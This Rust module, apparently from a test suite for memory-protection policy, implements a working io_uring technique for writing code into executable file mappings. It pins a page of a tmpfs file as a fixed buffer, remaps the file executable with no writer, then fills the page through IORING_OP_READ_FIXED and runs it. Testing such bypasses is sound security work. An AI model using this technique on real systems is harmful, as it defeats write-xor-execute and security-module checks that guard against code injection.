//! Writing into pinned page-cache pages with io_uring: a fixed buffer registered from a
//! writable mapping of a file keeps its pages after the mapping and the descriptor are
//! gone, and `IORING_OP_READ_FIXED` fills them later, when the file is mapped executable
//! and has no writer.

use std::os::fd::{AsRawFd as _, OwnedFd, RawFd};
use std::sync::atomic::{AtomicU32, Ordering};

use vm_tests::technique;

use crate::sys::{self, PAGE};

// From include/uapi/linux/io_uring.h.

const IORING_OFF_SQ_RING: libc::off_t = 0;
const IORING_OFF_CQ_RING: libc::off_t = 0x800_0000;
const IORING_OFF_SQES: libc::off_t = 0x1000_0000;
const IORING_ENTER_GETEVENTS: libc::c_uint = 1;
const IORING_REGISTER_BUFFERS: libc::c_uint = 0;
const IORING_OP_READ_FIXED: u8 = 4;

/// `struct io_sqring_offsets`.
#[repr(C)]
#[derive(Default)]
struct IoSqringOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    flags: u32,
    dropped: u32,
    array: u32,
    _resv1: u32,
    _user_addr: u64,
}

/// `struct io_cqring_offsets`.
#[repr(C)]
#[derive(Default)]
struct IoCqringOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    overflow: u32,
    cqes: u32,
    flags: u32,
    _resv1: u32,
    _user_addr: u64,
}

/// `struct io_uring_params`.
#[repr(C)]
#[derive(Default)]
struct IoUringParams {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread_cpu: u32,
    sq_thread_idle: u32,
    features: u32,
    wq_fd: u32,
    _resv: [u32; 3],
    sq_off: IoSqringOffsets,
    cq_off: IoCqringOffsets,
}

/// `struct io_uring_sqe`, with the union members a read uses.
#[repr(C)]
#[derive(Default)]
struct IoUringSqe {
    opcode: u8,
    flags: u8,
    ioprio: u16,
    fd: i32,
    off: u64,
    addr: u64,
    len: u32,
    rw_flags: u32,
    user_data: u64,
    buf_index: u16,
    personality: u16,
    splice_fd_in: i32,
    _addr3: u64,
    _pad2: u64,
}

/// `struct io_uring_cqe` (without `IORING_SETUP_CQE32`).
#[repr(C)]
struct IoUringCqe {
    user_data: u64,
    res: i32,
    flags: u32,
}

const _: () = {
    assert!(std::mem::size_of::<IoSqringOffsets>() == 40);
    assert!(std::mem::size_of::<IoCqringOffsets>() == 40);
    assert!(std::mem::size_of::<IoUringParams>() == 120);
    assert!(std::mem::size_of::<IoUringSqe>() == 64);
    assert!(std::mem::size_of::<IoUringCqe>() == 16);
};

/// One ring's memory: the SQ ring, the CQ ring and the SQE array.
struct Ring {
    fd: OwnedFd,
    params: IoUringParams,
    sq: *mut u8,
    cq: *mut u8,
    sqes: *mut IoUringSqe,
}

/// Maps `len` bytes of the ring `fd` at the ring offset `off`.
fn map_ring(fd: RawFd, len: u32, off: libc::off_t, step: &str) -> *mut u8 {
    let len = usize::try_from(len).unwrap_or_default();
    // SAFETY: a new mapping at an address the kernel picks.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_POPULATE,
            fd,
            off,
        )
    };
    if p == libc::MAP_FAILED {
        technique::fail(step);
    }
    p.cast()
}

impl Ring {
    /// `io_uring_setup` with a few entries, and the three mappings.
    fn setup() -> Self {
        let mut params = IoUringParams::default();
        // SAFETY: `params` is a valid `io_uring_params` the kernel fills.
        let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, &raw mut params) };
        let fd = RawFd::try_from(sys::check(fd, "io_uring_setup"))
            .unwrap_or_else(|_| technique::broken("io_uring_setup returned no descriptor"));
        let fd = sys::own(fd);
        let raw = fd.as_raw_fd();
        let sq_len = params.sq_off.array + params.sq_entries * 4;
        let cq_len = params.cq_off.cqes + params.cq_entries * 16;
        let sqes_len = params.sq_entries * 64;
        let sq = map_ring(raw, sq_len, IORING_OFF_SQ_RING, "map SQ ring");
        let cq = map_ring(raw, cq_len, IORING_OFF_CQ_RING, "map CQ ring");
        let sqes = map_ring(raw, sqes_len, IORING_OFF_SQES, "map SQEs").cast();
        println!(
            "io_uring {raw}: {} entries, features {:#x}",
            params.sq_entries, params.features
        );
        Self {
            fd,
            params,
            sq,
            cq,
            sqes,
        }
    }

    /// The `u32` at `off` in the ring memory `base`.
    fn word(base: *mut u8, off: u32) -> &'static AtomicU32 {
        let off = usize::try_from(off).unwrap_or_default();
        // SAFETY: the kernel gave `off` as the offset of an aligned u32 of this mapping,
        // which stays mapped until the process exits.
        unsafe { AtomicU32::from_ptr(base.add(off).cast()) }
    }

    /// Submits `sqe`, waits for its completion and returns its result.
    fn submit_and_wait(&self, sqe: IoUringSqe) -> i32 {
        let (sq_off, cq_off) = (&self.params.sq_off, &self.params.cq_off);
        let mask = Self::word(self.sq, sq_off.ring_mask).load(Ordering::Relaxed);
        let tail = Self::word(self.sq, sq_off.tail);
        let t = tail.load(Ordering::Relaxed);
        let index = t & mask;
        let slot = usize::try_from(index).unwrap_or_default();
        // SAFETY: `slot` is below the number of SQEs, and the SQ ring array has as many
        // u32 entries; the kernel reads neither before the tail moves.
        unsafe {
            self.sqes.add(slot).write(sqe);
            self.sq
                .add(usize::try_from(sq_off.array).unwrap_or_default())
                .cast::<u32>()
                .add(slot)
                .write(index);
        }
        tail.store(t.wrapping_add(1), Ordering::Release);
        // SAFETY: plain syscall; no signal mask is passed.
        let r = unsafe {
            libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd.as_raw_fd(),
                1,
                1,
                IORING_ENTER_GETEVENTS,
                std::ptr::null::<libc::c_void>(),
                0,
            )
        };
        sys::check(r, "io_uring_enter");
        let head = Self::word(self.cq, cq_off.head);
        let h = head.load(Ordering::Relaxed);
        if Self::word(self.cq, cq_off.tail).load(Ordering::Acquire) == h {
            technique::broken("io_uring_enter returned without a completion");
        }
        let cq_mask = Self::word(self.cq, cq_off.ring_mask).load(Ordering::Relaxed);
        let slot = usize::try_from(h & cq_mask).unwrap_or_default();
        // SAFETY: the kernel published the CQE at `slot` before moving the tail.
        let cqe = unsafe {
            self.cq
                .add(usize::try_from(cq_off.cqes).unwrap_or_default())
                .cast::<IoUringCqe>()
                .add(slot)
                .read()
        };
        head.store(h.wrapping_add(1), Ordering::Release);
        cqe.res
    }
}

/// Registers the first page of a writable shared mapping of a copy of `LIB` as an
/// io_uring fixed buffer, drops the mapping and the writable descriptor, maps the copy
/// executable (`MAP_SHARED`) from a read-only open, and reads `CODE` from another file
/// into the fixed buffer with `IORING_OP_READ_FIXED`.
///
/// Kernel path: `io_uring_setup` → `security_uring_allowed`; `IORING_REGISTER_BUFFERS`
/// → `io_pin_pages` → `pin_user_pages_fast(FOLL_WRITE | FOLL_LONGTERM)` pins the
/// page-cache pages; the executable mapping's `security_mmap_file` then sees a file with
/// no writer and no writable mapping; `io_read` copies into the pinned pages through a
/// bvec, where no file or mapping permission is checked any more.
/// Injection: the pages the executable mapping runs are written through the pin.
/// GUP refuses `FOLL_LONGTERM` write pins of file pages that need dirty tracking (ext4,
/// xfs, …: Linux 6.5+, before that io_uring refused every file but shmem and hugetlbfs
/// with EOPNOTSUPP), so `DIR` must be on tmpfs; that is checked up front.
pub(crate) fn io_uring(lib: &str, dir: &str) -> ! {
    let ring = Ring::setup();
    sys::work_dir(dir);
    sys::require_tmpfs(
        dir,
        "only shmem file pages can be pinned for writing long-term",
    );
    let (path, _) = sys::copy_lib(lib, dir, "x");
    let rw = sys::open(&path, libc::O_RDWR, 0, "open for writing");
    let buf = sys::map(
        PAGE,
        libc::PROT_READ | libc::PROT_WRITE,
        libc::MAP_SHARED,
        rw.as_raw_fd(),
        "map shared writable",
    );
    let iov = libc::iovec {
        iov_base: buf.cast(),
        iov_len: PAGE,
    };
    // SAFETY: `iov` is one valid iovec for the duration of the call.
    let r = unsafe {
        libc::syscall(
            libc::SYS_io_uring_register,
            ring.fd.as_raw_fd(),
            IORING_REGISTER_BUFFERS,
            &raw const iov,
            1,
        )
    };
    sys::check(r, "IORING_REGISTER_BUFFERS");
    println!("registered the first page of {path} (mapped at {buf:p}) as fixed buffer 0");
    // SAFETY: `buf` is a mapping of one page that nothing refers to any more.
    sys::check(unsafe { libc::munmap(buf.cast(), PAGE) }, "munmap");
    drop(rw);
    println!("unmapped it and closed the writable descriptor");

    let ro = sys::open(&path, libc::O_RDONLY, 0, "open");
    let at = sys::map(
        PAGE,
        libc::PROT_READ | libc::PROT_EXEC,
        libc::MAP_SHARED,
        ro.as_raw_fd(),
        "map executable",
    );
    println!("mapped {path} PROT_READ|PROT_EXEC at {at:p}");

    let code_path = format!("{dir}/code");
    let _ = std::fs::remove_file(&code_path);
    let code = sys::open(
        &code_path,
        libc::O_RDWR | libc::O_CREAT | libc::O_EXCL,
        0o600,
        "create code file",
    );
    sys::pwrite(code.as_raw_fd(), &technique::CODE, 0, "write code file");
    let sqe = IoUringSqe {
        opcode: IORING_OP_READ_FIXED,
        fd: code.as_raw_fd(),
        off: 0,
        // The registered range still starts at the old address, mapped or not.
        addr: buf.addr() as u64,
        len: u32::try_from(technique::CODE.len()).unwrap_or_default(),
        buf_index: 0,
        ..IoUringSqe::default()
    };
    let res = ring.submit_and_wait(sqe);
    if res < 0 {
        sys::fail_errno("IORING_OP_READ_FIXED", -res);
    }
    if res.unsigned_abs() as usize != technique::CODE.len() {
        technique::broken(&format!("IORING_OP_READ_FIXED read {res} bytes"));
    }
    println!("read CODE from {code_path} into the fixed buffer; calling {at:p}");
    // SAFETY: `at` maps the pinned page, which now starts with CODE.
    unsafe { technique::run_code(at) }
}
